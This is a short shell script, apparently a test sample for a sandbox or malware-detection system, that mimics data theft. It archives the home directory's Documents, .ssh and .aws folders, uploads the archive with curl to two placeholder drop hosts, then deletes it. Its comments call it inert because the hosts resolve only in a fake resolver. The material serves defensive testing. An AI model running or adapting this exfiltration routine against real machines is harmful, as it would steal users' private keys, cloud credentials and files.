#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: packs the user's documents and keys and posts them over HTTPS to a drop
# host (T1048.002).
# Inert: the drop host is a name only the fake resolver answers; its TLS handshake fails.
tar czf ./.out.tgz -C "$HOME" Documents .ssh .aws 2>/dev/null || tar czf ./.out.tgz -C "$HOME" . 2>/dev/null
curl -sk -m 5 -X POST -H 'Content-Type: application/octet-stream' --data-binary @./.out.tgz https://drop.example.test/upload
curl -sk -m 5 -F "f=@./.out.tgz" https://files.example.test:8443/u
rm -f ./.out.tgz
exit 0
